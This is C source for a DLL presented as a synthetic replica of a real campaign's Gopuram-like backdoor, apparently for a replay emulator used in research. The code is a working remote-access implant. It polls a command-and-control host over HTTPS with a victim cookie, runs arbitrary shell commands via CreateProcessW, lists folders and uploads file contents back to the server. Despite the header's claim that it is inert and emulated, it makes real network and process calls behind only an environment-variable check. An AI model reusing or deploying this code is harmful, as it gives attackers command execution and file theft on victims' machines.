/*
 * guard64.dll - chainreplay synthetic stage 4 ("Gopuram"-like backdoor), written from scratch.
 *
 * The real campaign's fourth stage (guard64.dll, on a handful of targets) was a modular
 * backdoor taking operator commands. This one is benign and inert: GuardMain does nothing
 * unless CHAINREPLAY_SANDBOX equals "replay-only" (checked before anything else). Meant to run
 * only inside the chainreplay emulator, against its fake C2.
 *
 * Export:
 *   void WINAPI GuardMain(const wchar_t *c2_host, const wchar_t *c2_path, const wchar_t *guid)
 *     (called by the stage-3 stealer after it loaded this DLL from disk).
 *
 * Behaviour: at most MAX_POLLS times, GET https://<c2_host>/phonesystem/api/tasks with
 * "Cookie: __tutma=<guid>"; the answer is one task:
 *   shell <command line>   CreateProcessW(command line), waits for it; result: its pid and exit code
 *   dir <folder>           FindFirstFileW/FindNextFileW over <folder>\*; result: the names
 *   upload <file>          reads the file (at most 64 KiB); result: its bytes
 *   exit (or anything else) stop polling
 * and each result is POSTed to https://<c2_host>/phonesystem/api/result as
 * "<task>\n<result>". Processes it starts are emulated; nothing runs on a host.
 */
#define WIN32_LEAN_AND_MEAN
#include <windows.h>
#include <wininet.h>

#define EXPORT __declspec(dllexport)
#define MAX_POLLS 8
#define MAX_TASK 512
#define MAX_RESULT (64u * 1024u + 1024u)
#define MAX_UPLOAD (64u * 1024u)

typedef unsigned char u8;

static const wchar_t USER_AGENT[] = L"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36";
static const wchar_t TASKS_PATH[] = L"/phonesystem/api/tasks";
static const wchar_t RESULT_PATH[] = L"/phonesystem/api/result";

void *memset(void *d, int c, size_t n)
{
    unsigned char *p = (unsigned char *)d;
    while (n--)
        *p++ = (unsigned char)c;
    return d;
}

void *memcpy(void *d, const void *s, size_t n)
{
    unsigned char *p = (unsigned char *)d;
    const unsigned char *q = (const unsigned char *)s;
    while (n--)
        *p++ = *q++;
    return d;
}

static int sandbox_ok(void)
{
    static const wchar_t want[] = L"replay-only";
    wchar_t buf[32];
    DWORD n = GetEnvironmentVariableW(L"CHAINREPLAY_SANDBOX", buf, 32);
    if (n != sizeof(want) / sizeof(want[0]) - 1)
        return 0;
    for (DWORD i = 0; i < n; i++)
        if (buf[i] != want[i])
            return 0;
    return 1;
}

typedef struct {
    u8 *p;
    DWORD n, cap;
} BUF;

static void put(BUF *b, const void *d, DWORD n)
{
    if (b->n + n > b->cap)
        n = b->cap - b->n;
    memcpy(b->p + b->n, d, n);
    b->n += n;
}

static void put_str(BUF *b, const char *s)
{
    DWORD n = 0;
    while (s[n])
        n++;
    put(b, s, n);
}

static void put_w(BUF *b, const wchar_t *s)
{
    for (; *s; s++) {
        char c = *s < 0x80 ? (char)*s : '?';
        put(b, &c, 1);
    }
}

static void put_uint(BUF *b, unsigned v)
{
    char t[12];
    int k = 11;
    t[k] = 0;
    do {
        t[--k] = (char)('0' + v % 10);
        v /= 10;
    } while (v && k);
    put_str(b, t + k);
}

/* One HTTPS request to the C2 with the victim cookie; the answer (at most cap bytes) in out. */
static DWORD c2_request(const wchar_t *host, const wchar_t *verb, const wchar_t *path, const wchar_t *guid,
                        const u8 *body, DWORD body_n, u8 *out, DWORD cap)
{
    static const wchar_t *accept[] = {L"*/*", NULL};
    wchar_t cookie[160];
    static const wchar_t pfx[] = L"Cookie: __tutma=";
    DWORD k = 0, total = 0, got;
    for (const wchar_t *p = pfx; *p; p++)
        cookie[k++] = *p;
    for (const wchar_t *p = guid; *p && k < 140; p++)
        cookie[k++] = *p;
    cookie[k++] = L'\r';
    cookie[k++] = L'\n';
    cookie[k] = 0;
    HINTERNET inet = InternetOpenW(USER_AGENT, INTERNET_OPEN_TYPE_PRECONFIG, NULL, NULL, 0);
    if (!inet)
        return 0;
    HINTERNET conn = InternetConnectW(inet, host, INTERNET_DEFAULT_HTTPS_PORT, NULL, NULL, INTERNET_SERVICE_HTTP, 0, 0);
    if (conn) {
        HINTERNET req = HttpOpenRequestW(conn, verb, path, NULL, NULL, accept,
                                         INTERNET_FLAG_SECURE | INTERNET_FLAG_RELOAD | INTERNET_FLAG_NO_CACHE_WRITE,
                                         0);
        if (req) {
            HttpAddRequestHeadersW(req, cookie, (DWORD)-1, HTTP_ADDREQ_FLAG_ADD | HTTP_ADDREQ_FLAG_REPLACE);
            if (HttpSendRequestW(req, NULL, 0, (LPVOID)body, body_n)) {
                while (total < cap) {
                    got = 0;
                    if (!InternetReadFile(req, out + total, cap - total, &got) || got == 0)
                        break;
                    total += got;
                }
            }
            InternetCloseHandle(req);
        }
        InternetCloseHandle(conn);
    }
    InternetCloseHandle(inet);
    return total;
}

static int starts(const char *s, const char *p)
{
    for (; *p; p++, s++)
        if (*s != *p)
            return 0;
    return 1;
}

static void widen(wchar_t *out, const char *in, DWORD cap)
{
    DWORD k = 0;
    for (; in[k] && k + 1 < cap; k++)
        out[k] = (wchar_t)(u8)in[k];
    out[k] = 0;
}

static void task_shell(const char *arg, BUF *res)
{
    wchar_t cmd[MAX_TASK];
    STARTUPINFOW si;
    PROCESS_INFORMATION pi;
    DWORD code = 0;
    widen(cmd, arg, MAX_TASK);
    memset(&si, 0, sizeof(si));
    si.cb = sizeof(si);
    memset(&pi, 0, sizeof(pi));
    if (!CreateProcessW(NULL, cmd, NULL, NULL, FALSE, CREATE_NO_WINDOW, NULL, NULL, &si, &pi)) {
        put_str(res, "error: CreateProcess failed");
        return;
    }
    WaitForSingleObject(pi.hProcess, 10000);
    GetExitCodeProcess(pi.hProcess, &code);
    put_str(res, "pid ");
    put_uint(res, pi.dwProcessId);
    put_str(res, " exit ");
    put_uint(res, code);
    CloseHandle(pi.hThread);
    CloseHandle(pi.hProcess);
}

static void task_dir(const char *arg, BUF *res)
{
    wchar_t pattern[MAX_PATH + 8];
    WIN32_FIND_DATAW fd;
    DWORD k;
    widen(pattern, arg, MAX_PATH);
    for (k = 0; pattern[k]; k++)
        ;
    if (k && pattern[k - 1] != L'\\')
        pattern[k++] = L'\\';
    pattern[k++] = L'*';
    pattern[k] = 0;
    HANDLE h = FindFirstFileW(pattern, &fd);
    if (h == INVALID_HANDLE_VALUE) {
        put_str(res, "error: no such folder");
        return;
    }
    do {
        put_w(res, fd.cFileName);
        put_str(res, (fd.dwFileAttributes & FILE_ATTRIBUTE_DIRECTORY) ? "\\\n" : "\n");
    } while (FindNextFileW(h, &fd));
    FindClose(h);
}

static void task_upload(const char *arg, BUF *res)
{
    wchar_t path[MAX_PATH];
    u8 *data;
    DWORD got = 0;
    widen(path, arg, MAX_PATH);
    HANDLE h = CreateFileW(path, GENERIC_READ, FILE_SHARE_READ, NULL, OPEN_EXISTING, FILE_ATTRIBUTE_NORMAL, NULL);
    if (h == INVALID_HANDLE_VALUE) {
        put_str(res, "error: cannot open");
        return;
    }
    data = (u8 *)HeapAlloc(GetProcessHeap(), 0, MAX_UPLOAD);
    if (data && ReadFile(h, data, MAX_UPLOAD, &got, NULL))
        put(res, data, got);
    CloseHandle(h);
    if (data)
        HeapFree(GetProcessHeap(), 0, data);
}

EXPORT void WINAPI GuardMain(const wchar_t *c2_host, const wchar_t *c2_path, const wchar_t *guid)
{
    char task[MAX_TASK + 1];
    BUF res;
    (void)c2_path;
    if (!sandbox_ok() || !c2_host || !guid)
        return;
    res.cap = MAX_RESULT;
    res.p = (u8 *)HeapAlloc(GetProcessHeap(), 0, res.cap);
    if (!res.p)
        return;
    for (int poll = 0; poll < MAX_POLLS; poll++) {
        DWORD n = c2_request(c2_host, L"GET", TASKS_PATH, guid, NULL, 0, (u8 *)task, MAX_TASK);
        while (n && (task[n - 1] == '\n' || task[n - 1] == '\r' || task[n - 1] == ' '))
            n--;
        task[n] = 0;
        res.n = 0;
        put_str(&res, task);
        put_str(&res, "\n");
        if (starts(task, "shell "))
            task_shell(task + 6, &res);
        else if (starts(task, "dir "))
            task_dir(task + 4, &res);
        else if (starts(task, "upload "))
            task_upload(task + 7, &res);
        else
            break;
        c2_request(c2_host, L"POST", RESULT_PATH, guid, res.p, res.n, (u8 *)task, MAX_TASK);
    }
    HeapFree(GetProcessHeap(), 0, res.p);
}

BOOL WINAPI DllMain(HINSTANCE inst, DWORD reason, LPVOID reserved)
{
    (void)inst;
    (void)reason;
    (void)reserved;
    return TRUE;
}
